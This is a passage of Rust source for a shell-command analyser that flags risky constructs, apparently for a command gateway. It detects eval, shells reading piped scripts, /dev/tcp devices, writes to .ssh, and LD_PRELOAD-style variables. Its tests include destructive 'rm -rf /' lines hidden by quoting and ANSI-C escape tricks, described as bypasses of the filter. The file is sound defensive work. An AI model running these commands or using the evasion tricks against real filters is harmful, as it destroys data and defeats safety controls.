            && (target_text == "-" || target_text.bytes().all(|b| b.is_ascii_digit()));
        let writes = !dup
            && matches!(
                op,
                Op::Great
                    | Op::DGreat
                    | Op::Clobber
                    | Op::LessGreat
                    | Op::AndGreat
                    | Op::AndDGreat
                    | Op::GreatAnd
            );
        if !matches!(op, Op::DLess | Op::DLessDash | Op::TLess) {
            if !dup && risky_device(&target_text, writes) {
                self.flag(CommandFlag::DeviceRedirect);
            }
            if writes && names_ssh_dir(&target) {
                self.flag(CommandFlag::AuthorizedKeys);
            }
        }
        Ok(RedirInfo {
            redirect: Redirect {
                op: format!("{}{}", io.unwrap_or_default(), op.redirect().unwrap_or("")),
                target: target_text,
            },
            stdin,
            body,
        })
    }

    fn simple_command(&mut self) -> Res<()> {
        self.simple_command_from(Vec::new())
    }

    /// A simple command whose first words were already read.
    fn simple_command_from(&mut self, mut words: Vec<Word>) -> Res<()> {
        let mut redirs: Vec<RedirInfo> = Vec::new();
        loop {
            match self.peek()? {
                Tok::Word(_) => {
                    if let Tok::Word(w) = self.next()? {
                        words.push(w);
                    }
                }
                Tok::IoNumber(_) => {
                    if let Tok::IoNumber(n) = self.next()? {
                        redirs.push(self.redirect(Some(n))?);
                    }
                }
                Tok::Op(op) if op.redirect().is_some() => redirs.push(self.redirect(None)?),
                Tok::Op(Op::LParen)
                    if words.len() == 1 && redirs.is_empty() && !words[0].assign =>
                {
                    // A function definition `name() body`: the body is parsed (its commands
                    // are listed), the definition itself runs nothing.
                    self.next()?;
                    match self.next()? {
                        Tok::Op(Op::RParen) => {}
                        tok => return Err(self.unexpected(&tok)),
                    }
                    self.skip_newlines()?;
                    self.enter()?;
                    self.parse_command()?;
                    self.leave();
                    return Ok(());
                }
                _ => break,
            }
        }
        if words.is_empty() && redirs.is_empty() {
            let tok = self.next()?;
            return Err(self.unexpected(&tok));
        }
        // `a[i]=x` (which bash reads as an assignment, this parser as a word) evaluates its
        // subscript.
        for w in &words {
            let (name, value) = split_assignment(&w.text);
            if !(w.assign || value.is_some() && name.contains(&b'[')) {
                break;
            }
            if name_evaluates(name) || value.is_some_and(value_evaluates) {
                self.flag(CommandFlag::ArithmeticEval);
            }
        }
        let n_assign = words.iter().take_while(|w| w.assign).count();
        for a in &words[..n_assign] {
            if sensitive_assignment(&a.string()) {
                self.flag(CommandFlag::SensitiveVariable);
            }
        }
        if n_assign == words.len() {
            // Only assignments and redirections: no program runs.
            return Ok(());
        }
        let assignments: Vec<String> = words[..n_assign].iter().map(Word::string).collect();
        self.analyze(assignments, &words[n_assign..], &redirs)
    }

    /// Records a command and what its program implies, then follows wrapper programs to the
    /// command they run. `words[0]` is the program.
    fn analyze(
        &mut self,
        assignments: Vec<String>,
        words: &[Word],
        redirs: &[RedirInfo],
    ) -> Res<()> {
        let mut assignments = assignments;
        let mut words = words;
        let mut levels = 0usize;
        while let Some((prog, args)) = words.split_first() {
            if prog.expanded || prog.glob {
                self.flag(CommandFlag::Expansion);
            }
            let cmd = SimpleCommand {
                program: prog.string(),
                args: args.iter().map(Word::string).collect(),
                assignments: std::mem::take(&mut assignments),
                redirects: redirs.iter().map(|r| r.redirect.clone()).collect(),
            };
            let name = cmd.program_name().to_string();
            self.out.words += 1 + cmd.args.len() + cmd.assignments.len();
            if self.out.words > MAX_WORDS {
                return Err(CommandError::TooManyWords(MAX_WORDS));
            }
            self.out.line.commands.push(cmd);
            let next = self.program_effects(&name, args, redirs)?;
            let Some(Wrapped { at, env_from }) = next else {
                return Ok(());
            };
            levels += 1;
            if self.depth + levels > MAX_DEPTH {
                return Err(CommandError::TooDeep(MAX_DEPTH));
            }
            assignments = args[env_from..at].iter().map(Word::string).collect();
            words = &args[at..];
        }
        Ok(())
    }

    /// What running `name` with `args` implies: flags, nested texts parsed, and the command
    /// it runs in turn if it is a wrapper.
    fn program_effects(
        &mut self,
        name: &str,
        args: &[Word],
        redirs: &[RedirInfo],
    ) -> Res<Option<Wrapped>> {
        if PRIVILEGED.contains(&name) {
            self.flag(CommandFlag::Sudo);
        }
        match name {
            "eval" => {
                self.flag(CommandFlag::Eval);
                let joined = join_words(args);
                self.nested(&joined, false)?;
                return Ok(None);
            }
            "source" | "." => {
                self.flag(CommandFlag::Eval);
                if self.piped || args.first().is_some_and(|a| is_stdin_path(&a.string())) {
                    self.flag(CommandFlag::PipeToShell);
                }
                return Ok(None);
            }
            "trap" => {
                if let Some(first) = args.first().filter(|a| !a.string().starts_with('-')) {
                    self.flag(CommandFlag::Eval);
                    let text = first.text.clone();
                    self.nested(&text, false)?;
                }
                return Ok(None);
            }
            "alias" => {
                for a in args {
                    if let Some(eq) = a.text.iter().position(|&b| b == b'=') {
                        self.flag(CommandFlag::Eval);
                        let value = a.text[eq + 1..].to_vec();
                        self.nested(&value, false)?;
                    }
                }
                return Ok(None);
            }
            "export" | "declare" | "typeset" | "local" | "readonly" => {
                if args.iter().any(|a| sensitive_assignment(&a.string())) {
                    self.flag(CommandFlag::SensitiveVariable);
                }
                // `-i` makes values arithmetic, `-n` makes them names.
                let evaluated = args.iter().any(|a| {
                    matches!(a.text.first(), Some(b'-' | b'+'))
                        && a.text[1..].iter().any(|&c| c == b'i' || c == b'n')
                });
                let mut operands = args
                    .iter()
                    .filter(|a| !matches!(a.text.first(), Some(b'-' | b'+')));
                if operands.any(|a| {
                    let (name, value) = split_assignment(&a.text);
                    name_evaluates(name)
                        || value.is_some_and(value_evaluates)
                        || (evaluated && value.is_some_and(arith_refers))
                }) {
                    self.flag(CommandFlag::ArithmeticEval);
                }
                return Ok(None);
            }
            "let" => {
                if args.iter().any(|a| arith_refers(&a.text)) {
                    self.flag(CommandFlag::ArithmeticEval);
                }
                return Ok(None);
            }
            "test" | "[" | "printf" | "wait" => {
                // `test -v NAME`, `printf -v NAME`, `wait -p NAME`.
                let opt: &[u8] = if name == "wait" { b"-p" } else { b"-v" };
                let named = args.iter().enumerate().any(|(k, a)| {
                    if a.text == opt {
                        args.get(k + 1).is_some_and(|n| name_evaluates(&n.text))
                    } else {
                        name != "test"
                            && name != "["
                            && a.text.starts_with(opt)
                            && name_evaluates(&a.text[2..])
                    }
                });
                if named {
                    self.flag(CommandFlag::ArithmeticEval);
                }
                return Ok(None);
            }
            "unset" => {
                if args
                    .iter()
                    .any(|a| !a.text.starts_with(b"-") && name_evaluates(&a.text))
                {
                    self.flag(CommandFlag::ArithmeticEval);
                }
                return Ok(None);
            }
            "read" | "mapfile" | "readarray" => {
                self.reads_into_names(name, args)?;
                return Ok(None);
            }
            "dd" => {
                for a in args {
                    if let Some(path) = a.string().strip_prefix("of=") {
                        if risky_device(path, true) {
                            self.flag(CommandFlag::DeviceRedirect);
                        }
                    }
                }
                return Ok(None);
            }
            "tee" => {
                for a in args {
                    let s = a.string();
                    if !s.starts_with('-') && risky_device(&s, true) {
                        self.flag(CommandFlag::DeviceRedirect);
                    }
                }
                return Ok(None);
            }
            "find" => {
                // `-exec cmd args ;` (and -execdir, -ok, -okdir) runs cmd for each file.
                let mut i = 0;
                while i < args.len() {
                    let s = args[i].string();
                    if matches!(s.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir") {
                        let end = (i + 1..args.len())
                            .find(|&k| matches!(args[k].text.as_slice(), b";" | b"+"))
                            .unwrap_or(args.len());
                        if end > i + 1 {
                            self.enter()?;
                            self.analyze(Vec::new(), &args[i + 1..end], redirs)?;
                            self.leave();
                        }
                        i = end;
                    }
                    i += 1;
                }
                return Ok(None);
            }
            _ => {}
        }
        if SHELLS.iter().any(|s| is_versioned(name, s)) {
            self.shell(name, args, redirs)?;
            return Ok(None);
        }
        if INTERPRETERS.iter().any(|s| is_versioned(name, s)) {
            self.interpreter(name, args);
            return Ok(None);
        }
        self.wrapper(name, args)
    }

    /// `read`, `mapfile`, `readarray`: the names they assign to (operands, `read -a NAME`)
    /// evaluate their subscripts; `mapfile -C CALLBACK` evaluates its callback as code.
    fn reads_into_names(&mut self, name: &str, args: &[Word]) -> Res<()> {
        let (values, name_opts, code_opts): (&[u8], &[u8], &[u8]) = if name == "read" {
            (b"adinNptu", b"a", b"")
        } else {
            (b"dnOsuCc", b"", b"C")
        };
        let mut names: Vec<&[u8]> = Vec::new();
        let mut codes: Vec<Vec<u8>> = Vec::new();
        let mut i = 0;
        while let Some(a) = args.get(i) {
            i += 1;
            if a.text == b"--" {
                break;
            }
            if a.text.len() < 2 || a.text[0] != b'-' {
                i -= 1;
                break;
            }
            for (k, &c) in a.text.iter().enumerate().skip(1) {
                if !values.contains(&c) {
                    continue;
                }
                let value: &[u8] = if k + 1 < a.text.len() {
                    &a.text[k + 1..]
                } else {
                    i += 1;
                    args.get(i - 1).map_or(b"", |v| v.text.as_slice())
                };
                if name_opts.contains(&c) {
                    names.push(value);
                }
                if code_opts.contains(&c) {
                    codes.push(value.to_vec());
                }
                break;
            }
        }
        names.extend(args[i.min(args.len())..].iter().map(|a| a.text.as_slice()));
        if names.into_iter().any(name_evaluates) {
            self.flag(CommandFlag::ArithmeticEval);
        }
        for code in codes {
            self.flag(CommandFlag::Eval);
            self.nested(&code, false)?;
        }
        Ok(())
    }

    /// A shell: `-c STRING` is parsed as a nested line; a shell that reads its script from
    /// stdin (or may, being fed by a pipe) runs code the gateway does not see.
    fn shell(&mut self, name: &str, args: &[Word], redirs: &[RedirInfo]) -> Res<()> {
        let mut i = 0;
        let (mut command, mut stdin) = (false, false);
        let mut codes: Vec<Vec<u8>> = Vec::new();
        while let Some(a) = args.get(i) {
            let s = a.string();
            if s == "--" || s == "-" {
                i += 1;
                break;
            }
            if let Some(long) = s.strip_prefix("--") {
                let (opt, inline) = long
                    .split_once('=')
                    .map_or((long, None), |(o, v)| (o, Some(v)));
                match opt {
                    "rcfile" | "init-file" | "debug" if inline.is_none() => i += 1,
                    "command" | "init-command" => match inline {
                        Some(v) => codes.push(v.as_bytes().to_vec()),
                        None => {
                            if let Some(v) = args.get(i + 1) {
                                codes.push(v.text.clone());
                            }
                            i += 1;
                        }
                    },
                    _ => {}
                }
                i += 1;
                continue;
            }
            if (s.starts_with('-') || s.starts_with('+')) && s.len() > 1 {
                for ch in s[1..].chars() {
                    match ch {
                        'c' => command = true,
                        's' => stdin = true,
                        'o' | 'O' => i += 1,
                        'C' if name == "fish" => {
                            if let Some(v) = args.get(i + 1) {
                                codes.push(v.text.clone());
                            }
                            i += 1;
                        }
                        _ => {}
                    }
                }
                i += 1;
                continue;
            }
            break;
        }
        let operand = args.get(i);
        if command {
            if let Some(script) = operand {
                codes.push(script.text.clone());
            }
        }
        for code in &codes {
            self.flag(CommandFlag::NestedShell);
            self.nested(code, false)?;
        }
        let reads_stdin = stdin || (!command && operand.is_none());
        let script_is_stdin = !command && operand.is_some_and(|o| is_stdin_path(&o.string()));
        if reads_stdin || script_is_stdin || (self.piped && !command) {
            self.flag(CommandFlag::PipeToShell);
        }
        if reads_stdin {
            self.feed_script(redirs)?;
        }
        Ok(())
    }

    /// A here-document or here-string on a shell's stdin is its script: parse it too.
    fn feed_script(&mut self, redirs: &[RedirInfo]) -> Res<()> {
        let Some(r) = redirs.iter().rev().find(|r| r.stdin) else {
            return Ok(());
        };
        match &r.body {
            Body::None => Ok(()),
            Body::Text(text) => {
                let text = text.clone();
                self.nested(&text, false)
            }
            Body::Slot(slot) => {
                match self.bodies.get(*slot).cloned().flatten() {
                    Some(body) => self.nested(&body, false)?,
                    None => self.deferred_scripts.push(*slot),
                }
                Ok(())
            }
        }
    }

    /// An interpreter (python, perl …) whose code cannot be parsed here: it only matters
    /// whether the code it runs may come from stdin.
    fn interpreter(&mut self, name: &str, args: &[Word]) {
        let (code_opts, value_opts, long_code, long_value): (&str, &str, &[&str], &[&str]) =
            if name.starts_with("python") || name.starts_with("pypy") {
                ("cm", "WXQ", &[], &[])
            } else if name.starts_with("perl") {
                ("eE", "", &[], &[])
            } else if name.starts_with("ruby") {
                ("e", "rICEFT", &[], &[])
            } else if name.starts_with("php") {
                ("rBRE", "fdcz", &[], &[])
            } else {
                (
                    "ep",
                    "r",
                    &["eval", "print"],
                    &["require", "import", "loader", "input-type"],
                )
            };
        let mut i = 0;
        let mut code = false;
        while let Some(a) = args.get(i) {
            let s = a.string();
            if s == "--" {
                i += 1;
                break;
            }
            if let Some(long) = s.strip_prefix("--") {
                let (opt, inline) = long
                    .split_once('=')
                    .map_or((long, None), |(o, v)| (o, Some(v)));
                if long_code.contains(&opt) {
                    code = true;
                }
                if (long_code.contains(&opt) || long_value.contains(&opt)) && inline.is_none() {
                    i += 1;
                }
                i += 1;
                continue;
            }
            if s.starts_with('-') && s.len() > 1 {
                for (k, ch) in s[1..].char_indices() {
                    let attached = k + 1 + ch.len_utf8() < s.len();
                    if code_opts.contains(ch) {
                        code = true;
                    }
                    if code_opts.contains(ch) || value_opts.contains(ch) {
                        if !attached {
                            i += 1;
                        }
                        break;
                    }
                }
                i += 1;
                continue;
            }
            break;
        }
        let operand = args.get(i).map(Word::string);
        let reads_stdin = !code
            && operand
                .as_deref()
                .is_none_or(|o| o == "-" || is_stdin_path(o));
        if reads_stdin || self.piped {
            self.flag(CommandFlag::PipeToShell);
        }
    }

    /// A program that runs another one: where that command starts in `args`.
    fn wrapper(&mut self, name: &str, args: &[Word]) -> Res<Option<Wrapped>> {
        let Some(spec) = WRAPPERS.iter().find(|w| w.name == name) else {
            return Ok(None);
        };
        let strings: Vec<String> = args.iter().map(Word::string).collect();
        let mut scan = getopt(&strings, spec);
        if name == "runuser" && !scan.opts.iter().any(|(o, _)| o == "u") {
            // Without -u, runuser works like su, whose options may follow the user name.
            scan = getopt(&strings, spec_of("su"));
        }
        if scan.unknown {
            self.flag(CommandFlag::Unparsed);
        }
        let has = |c: &str| scan.opts.iter().any(|(o, _)| o == c);
        let mut at = scan.operand;
        match name {
            "su" | "runuser" if !has("u") => {
                // su runs a shell: the -c string if given, else whatever arrives on stdin.
                let codes: Vec<String> = scan
                    .opts
                    .iter()
                    .filter(|(o, _)| {
                        matches!(o.as_str(), "c" | "C" | "command" | "session-command")
                    })
                    .filter_map(|(_, v)| v.clone())
                    .collect();
                if codes.is_empty() {
                    self.flag(CommandFlag::PipeToShell);
                }
                for code in codes {
                    self.flag(CommandFlag::NestedShell);
                    self.nested(code.as_bytes(), false)?;
                }
                return Ok(None);
            }
            "sudo" if has("e") || has("edit") => return Ok(None),
            "ionice" if has("p") || has("P") || has("u") => return Ok(None),
            "timeout" | "chroot" => at += 1,
            "env" => {
                for (o, v) in &scan.opts {
                    if matches!(o.as_str(), "S" | "split-string") {
                        if let Some(v) = v {
                            self.nested(v.as_bytes(), false)?;
                        }
                    }
                }
            }
            _ => {}
        }
        let env_from = at;
        if matches!(name, "env" | "sudo") {
            while strings.get(at).is_some_and(|s| is_assignment(s)) {
                if sensitive_assignment(&strings[at]) {
                    self.flag(CommandFlag::SensitiveVariable);
                }
                at += 1;
            }
        }
        if at >= args.len() {
            // No command: these run a shell reading stdin (sudo -s/-i, doas -s, pkexec,
            // chroot); the others do nothing or something harmless.
            let shell = match name {
                "sudo" => has("s") || has("i") || has("shell") || has("login"),
                "doas" => has("s"),
                "pkexec" | "chroot" => true,
                _ => false,
            };
            if shell {
                self.flag(CommandFlag::PipeToShell);
            }
            return Ok(None);
        }
        Ok(Some(Wrapped { at, env_from }))
    }
}

/// Where a wrapped command starts in the wrapper's arguments, and where its environment
/// assignments (`env X=1 cmd`) start.
struct Wrapped {
    at: usize,
    env_from: usize,
}

/// The options of a wrapper program, enough to find where the wrapped command starts.
struct WrapperSpec {
    name: &'static str,
    /// Short options without a value.
    flags: &'static str,
    /// Short options with a value (attached or in the next argument).
    values: &'static str,
    /// Short options with an optional attached value (`xargs -i[R]`).
    optional: &'static str,
    long_values: &'static [&'static str],
    long_flags: &'static [&'static str],
    /// Options may follow operands (GNU getopt permutation), as for su.
    permute: bool,
    /// A lone `-` is an option (`env -`, `su -`).
    dash_flag: bool,
}

const fn spec(name: &'static str, flags: &'static str, values: &'static str) -> WrapperSpec {
    WrapperSpec {
        name,
        flags,
        values,
        optional: "",
        long_values: &[],
        long_flags: &["help", "version"],
        permute: false,
        dash_flag: false,
    }
}

const PRIVILEGED: &[&str] = &["sudo", "su", "doas", "pkexec", "runuser"];

const WRAPPERS: &[WrapperSpec] = &[
    WrapperSpec {
        long_values: &[
            "close-from",
            "chdir",
            "group",
            "host",
            "prompt",
            "chroot",
            "role",
            "type",
            "command-timeout",
            "other-user",
            "user",
        ],
        long_flags: &[
            "askpass",
            "background",
            "bell",
            "preserve-env",
            "edit",
            "set-home",
            "login",
            "remove-timestamp",
            "reset-timestamp",
            "list",
            "non-interactive",
            "preserve-groups",
            "stdin",
            "shell",
            "version",
            "validate",
            "help",
        ],
        ..spec("sudo", "AbBEeHiKklNnPSsVv", "CDghpRrtTUu")
    },
    WrapperSpec {
        long_values: &[
            "command",
            "session-command",
            "group",
            "supp-group",
            "shell",
            "whitelist-environment",
        ],
        long_flags: &[
            "fast",
            "login",
            "preserve-environment",
            "pty",
            "help",
            "version",
        ],
        permute: true,
        dash_flag: true,
        ..spec("su", "fhlmpPV", "cCgGsw")
    },
    WrapperSpec {
        long_values: &[
            "command",
            "session-command",
            "group",
            "supp-group",
            "shell",
            "whitelist-environment",
            "user",
        ],
        long_flags: &[
            "fast",
            "login",
            "preserve-environment",
            "pty",
            "help",
            "version",
        ],
        dash_flag: true,
        ..spec("runuser", "fhlmpPV", "cCgGswu")
    },
    spec("doas", "Lns", "Cu"),
    WrapperSpec {
        long_values: &["user"],
        long_flags: &["keep-cwd", "disable-internal-agent", "help", "version"],
        ..spec("pkexec", "", "")
    },
    WrapperSpec {
        long_values: &["unset", "chdir", "split-string"],
        long_flags: &[
            "ignore-environment",
            "null",
            "debug",
            "help",
            "version",
            "default-signal",
            "ignore-signal",
            "block-signal",
            "list-signal-handling",
        ],
        dash_flag: true,
        ..spec("env", "i0v", "uCS")
    },
    WrapperSpec {
        long_values: &["adjustment"],
        ..spec("nice", "0123456789", "n")
    },
    spec("nohup", "", ""),
    WrapperSpec {
        long_values: &["kill-after", "signal"],
        long_flags: &[
            "preserve-status",
            "foreground",
            "verbose",
            "help",
            "version",
        ],
        ..spec("timeout", "v", "ks")
    },
    WrapperSpec {
        optional: "eil",
        long_values: &[
            "arg-file",
            "delimiter",
            "max-args",
            "max-procs",
            "max-chars",
            "process-slot-var",
        ],
        long_flags: &[
            "null",
            "no-run-if-empty",
            "interactive",
            "verbose",
            "exit",
            "open-tty",
            "show-limits",
            "help",
            "version",
            "eof",
            "replace",
            "max-lines",
        ],
        ..spec("xargs", "0oprtx", "adEILnPs")
    },
    spec("exec", "cl", "a"),
    spec("command", "pvV", ""),
    spec("builtin", "", ""),
    WrapperSpec {
        long_values: &["format", "output"],
        long_flags: &[
            "append",
            "verbose",
            "portability",
            "quiet",
            "help",
            "version",
        ],
        ..spec("time", "apqv", "fo")
    },
    WrapperSpec {
        long_values: &["input", "output", "error"],
        ..spec("stdbuf", "", "ioe")
    },
    WrapperSpec {
        long_flags: &["ctty", "fork", "wait", "help", "version"],
        ..spec("setsid", "cfw", "")
    },
    spec("busybox", "", ""),
    spec("toybox", "", ""),
    WrapperSpec {
        long_values: &["userspec", "groups"],
        long_flags: &["skip-chdir", "help", "version"],
        ..spec("chroot", "", "")
    },
    WrapperSpec {
        long_values: &["class", "classdata", "pid", "pgid", "uid"],
        long_flags: &["ignore", "help", "version"],
        ..spec("ionice", "t", "cnpPu")
    },
];

fn spec_of(name: &str) -> &'static WrapperSpec {
    WRAPPERS
        .iter()
        .find(|w| w.name == name)
        .unwrap_or(&WRAPPERS[0])
}

/// Shells whose `-c` string and stdin are understood (each also with a version suffix).
const SHELLS: &[&str] = &[
    "sh", "bash", "dash", "zsh", "ksh", "ksh93", "mksh", "pdksh", "lksh", "oksh", "fish", "ash",
    "hush", "csh", "tcsh", "yash", "posh", "rbash",
];

/// Interpreters that read their program from stdin when given none.
const INTERPRETERS: &[&str] = &["python", "pypy", "perl", "ruby", "node", "nodejs", "php"];

/// Variables that decide which program or library runs, or what a shell runs on its own.
const SENSITIVE_VARIABLES: &[&str] = &[
    "PATH",
    "LD_PRELOAD",
    "LD_LIBRARY_PATH",
    "LD_AUDIT",
    "BASH_ENV",
    "ENV",
    "IFS",
    "PROMPT_COMMAND",
    "SHELLOPTS",
    "BASHOPTS",
    "PS4",
    "GCONV_PATH",
    "PYTHONPATH",
    "PYTHONSTARTUP",
    "PERL5LIB",
    "PERL5OPT",
    "RUBYOPT",
    "NODE_OPTIONS",
];

struct Scan {
    /// Index of the first operand (the wrapped command for most wrappers).
    operand: usize,
    /// Options seen, by name (a letter or a long name), with their value.
    opts: Vec<(String, Option<String>)>,
    /// An option not in the spec was seen: the operand may be misidentified.
    unknown: bool,
}

/// A getopt-style scan of a wrapper's arguments.
fn getopt(args: &[String], spec: &WrapperSpec) -> Scan {
    let mut scan = Scan {
        operand: args.len(),
        opts: Vec::new(),
        unknown: false,
    };
    let mut first_operand: Option<usize> = None;
    let mut i = 0;
    while i < args.len() {
        let a = &args[i];
        if a == "--" {
            first_operand.get_or_insert(i + 1);
            break;
        }
        if a == "-" && spec.dash_flag {
            i += 1;
            continue;
        }
        if let Some(long) = a.strip_prefix("--") {
            let (name, inline) = long
                .split_once('=')
                .map_or((long, None), |(n, v)| (n, Some(v)));
            let value = if spec.long_values.contains(&name) {
                match inline {
                    Some(v) => Some(v.to_string()),
                    None => {
                        i += 1;
                        args.get(i).cloned()
                    }
                }
            } else {
                if !spec.long_flags.contains(&name) {
                    scan.unknown = true;
                }
                inline.map(str::to_string)
            };
            scan.opts.push((name.to_string(), value));
            i += 1;
            continue;
        }
        if a.starts_with('-') && a.len() > 1 {
            let cluster = &a[1..];
            for (k, ch) in cluster.char_indices() {
                let rest = &cluster[k + ch.len_utf8()..];
                if spec.values.contains(ch) {
                    let value = if rest.is_empty() {
                        i += 1;
                        args.get(i).cloned()
                    } else {
                        Some(rest.to_string())
                    };
                    scan.opts.push((ch.to_string(), value));
                    break;
                }
                if spec.optional.contains(ch) {
                    scan.opts.push((ch.to_string(), Some(rest.to_string())));
                    break;
                }
                if !spec.flags.contains(ch) {
                    scan.unknown = true;
                }
                scan.opts.push((ch.to_string(), None));
            }
            i += 1;
            continue;
        }
        first_operand.get_or_insert(i);
        if !spec.permute {
            break;
        }
        i += 1;
    }
    scan.operand = first_operand.unwrap_or(args.len()).min(args.len());
    scan
}

/// `name` is `base` or `base` followed by a version (`python3.11`, `perl5.36`, `bash5`).
fn is_versioned(name: &str, base: &str) -> bool {
    name.strip_prefix(base)
        .is_some_and(|rest| rest.bytes().all(|b| b.is_ascii_digit() || b == b'.'))
}

fn is_assignment(s: &str) -> bool {
    match s.split_once('=') {
        Some((name, _)) => {
            !name.is_empty()
                && !name.as_bytes()[0].is_ascii_digit()
                && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
        }
        None => false,
    }
}

fn sensitive_assignment(s: &str) -> bool {
    let Some((name, _)) = s.split_once('=') else {
        return false;
    };
    let name = name.strip_suffix('+').unwrap_or(name);
    SENSITIVE_VARIABLES.contains(&name) || name.starts_with("BASH_FUNC_")
}

fn is_stdin_path(s: &str) -> bool {
    matches!(
        normalize_path(s).as_deref(),
        Some("/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0")
    )
}

/// `eval`'s arguments joined with spaces: the text eval parses.
fn join_words(args: &[Word]) -> Vec<u8> {
    let mut joined = Vec::new();
    for (i, a) in args.iter().enumerate() {
        if i > 0 {
            joined.push(b' ');
        }
        joined.extend_from_slice(&a.text);
    }
    joined
}

/// Resolves `.`, `..` (never above `/`), repeated slashes and a trailing slash of an
/// absolute path lexically, so that `//dev/./sda` and `/dev/../dev/sda` are recognised as
/// `/dev/sda`; `None` for a relative path. Lexically: the host resolves `..` after a symlink
/// from where the link points.
pub fn normalize_path(path: &str) -> Option<String> {
    if !path.starts_with('/') {
        return None;
    }
    let mut parts: Vec<&str> = Vec::new();
    for part in path.split('/') {
        match part {
            "" | "." => {}
            ".." => {
                parts.pop();
            }
            p => parts.push(p),
        }
    }
    Some(format!("/{}", parts.join("/")))
}

/// A path under /dev that a command should not touch: any device written to except the
/// harmless ones, and bash's network pseudo-devices whichever way they are used.
fn risky_device(path: &str, writes: bool) -> bool {
    let Some(norm) = normalize_path(path) else {
        return false;
    };
    let Some(rest) = norm.strip_prefix("/dev/") else {
        return false;
    };
    if rest.starts_with("tcp/") || rest.starts_with("udp/") {
        return true;
    }
    if !writes {
        return false;
    }
    let harmless = matches!(rest, "null" | "stdout" | "stderr" | "stdin" | "tty")
        || rest
            .strip_prefix("fd/")
            .is_some_and(|d| !d.is_empty() && d.bytes().all(|b| b.is_ascii_digit()));
    !harmless
}

/// A redirection target inside a `.ssh` directory (literally or through a glob).
fn names_ssh_dir(w: &Word) -> bool {
    let text = w.string();
    let mut components: Vec<&str> = text.split('/').collect();
    components.pop();
    components.contains(&".ssh")
        || (w.glob && {
            let mut comps: Vec<String> = pattern_components(w).collect();
            comps.pop();
            comps
                .iter()
                .any(|c| c.starts_with('.') && glob_match(c, ".ssh"))
        })
}

/// The `/`-separated components of a word's glob pattern.
fn pattern_components(w: &Word) -> impl Iterator<Item = String> + '_ {
    let pattern = String::from_utf8_lossy(&w.pattern).into_owned();
    pattern
        .split('/')
        .map(str::to_string)
        .collect::<Vec<_>>()
        .into_iter()
}

/// How many characters of a pattern are literal, not wildcards.
fn literal_chars(pattern: &str) -> usize {
    pattern
        .chars()
        .filter(|c| !matches!(c, '*' | '?' | '[' | ']' | '!' | '\\'))
        .count()
}

#[cfg(test)]
mod tests {
    use super::CommandFlag::*;
    use super::*;

    fn p(line: &str) -> CommandLine {
        match parse(line) {
            Ok(c) => c,
            Err(e) => panic!("{line:?} does not parse: {e}"),
        }
    }

    /// The program names found, in order.
    fn names(line: &str) -> Vec<String> {
        p(line)
            .commands
            .iter()
            .map(|c| c.program_name().to_string())
            .collect()
    }

    fn flags(line: &str) -> Vec<CommandFlag> {
        p(line).flags.into_iter().collect()
    }

    /// Asserts the program names and the exact set of flags of a line.
    #[track_caller]
    fn check(line: &str, programs: &[&str], expected: &[CommandFlag]) {
        let parsed = p(line);
        let got: Vec<&str> = parsed.commands.iter().map(|c| c.program_name()).collect();
        assert_eq!(got, programs, "programs of {line:?}");
        let want: BTreeSet<CommandFlag> = expected.iter().copied().collect();
        assert_eq!(parsed.flags, want, "flags of {line:?}");
    }

    // --- an outside review's bypasses (each ran `rm` under bash 5.2) --------------------

    #[test]
    fn a_backslash_in_ansi_c_quoting_takes_the_byte_after_it_before_anything_is_decoded() {
        // `\c` then a quote: bash's `$'…'` ends at the next quote.
        assert!(names("echo $'\\c\\' ';rm -f F;echo '\\'").contains(&"rm".to_string()));
        // `\c` with nothing after it controls nothing: refused.
        assert!(parse("uptime $'\\c'; rm -rf /srv; echo '\\'").is_err());
        assert!(parse("uptime $'\\c'").is_err());
        // Control-backslash takes both backslashes.
        assert_eq!(p("printf $'\\c\\\\x'").commands[0].args, ["\u{1c}x"]);
    }

    #[test]
    fn a_nul_from_ansi_c_quoting_is_refused() {
        for line in [
            "$'rm\\0' -rf /srv",
            "$'rm\\x00'",
            "$'rm\\c@'",
            "r$'m\\u0000zz' x",
            "systemctl $'restart\\0' nginx",
        ] {
            assert!(parse(line).is_err(), "{line}");
        }
    }

    #[test]
    fn a_conditional_ends_at_its_closing_brackets_whatever_follows() {
        assert_eq!(names("uptime; [[ a ]]&&rm -rf /srv ]]"), ["uptime", "rm"]);
        assert!(names("[[ a ]]|rm -f F ]]").contains(&"rm".to_string()));
        assert!(names("( [[ a ]])\nrm -f F\n( [[ b ]] )").contains(&"rm".to_string()));
        // A comment inside `[[`: to the end of the line.
        assert!(names("uptime; [[ -n a #'\n]]; rm -f F; echo '\\' ]]").contains(&"rm".to_string()));
        // Still words inside: a regular expression, `&&` between operands.
        assert_eq!(names("[[ a =~ (x|y) && b ]] && ls"), ["ls"]);
    }

    #[test]
    fn single_quotes_inside_a_double_quoted_parameter_expansion_quote_its_end() {
        let line = "uptime \"${x:-'}\"'}\" ; rm -f /tmp/rv/p1 ; echo '\\'";
        assert!(names(line).contains(&"rm".to_string()), "{:?}", names(line));
    }

    // --- evasion attempts from the brief ---------------------------------------------

    #[test]
    fn quoting_does_not_hide_the_program() {
        check("r''m -rf /", &["rm"], &[]);
        check("\"rm\" -rf /", &["rm"], &[]);
        check("\\rm -rf /", &["rm"], &[]);
        check("r\\m -rf /", &["rm"], &[]);
        check("$'\\x72m' -rf /", &["rm"], &[]);
        check("$'\\162m'", &["rm"], &[]);
        check("$'\\u0072m'", &["rm"], &[]);
        check("r$'m'", &["rm"], &[]);
        check("'r'\"m\"", &["rm"], &[]);
        check("r\\\nm", &["rm"], &[]);
        let c = p("r''m -rf /");
        assert_eq!(c.commands[0].args, ["-rf", "/"]);
    }

    #[test]
    fn paths_are_reduced_to_the_program_name() {
        let c = p("/bin/rm -rf /");
        assert_eq!(c.commands[0].program, "/bin/rm");
        assert_eq!(c.commands[0].program_name(), "rm");
        check("./rm", &["rm"], &[]);
        check("~/bin/rm", &["rm"], &[]);
    }

    #[test]
    fn wrappers_expose_the_wrapped_command() {
        check("command rm", &["command", "rm"], &[]);
        check("env -i rm", &["env", "rm"], &[]);
        check(
            "env -i PATH=/x A=1 rm -rf /",
            &["env", "rm"],
            &[SensitiveVariable],
        );
        check("env -u HOME -C /tmp rm", &["env", "rm"], &[]);
        check("timeout 5 rm", &["timeout", "rm"], &[]);
        check("timeout -s KILL -k 3 5s rm", &["timeout", "rm"], &[]);
        check("nice -n 5 rm", &["nice", "rm"], &[]);
        check("nice -5 rm", &["nice", "rm"], &[]);
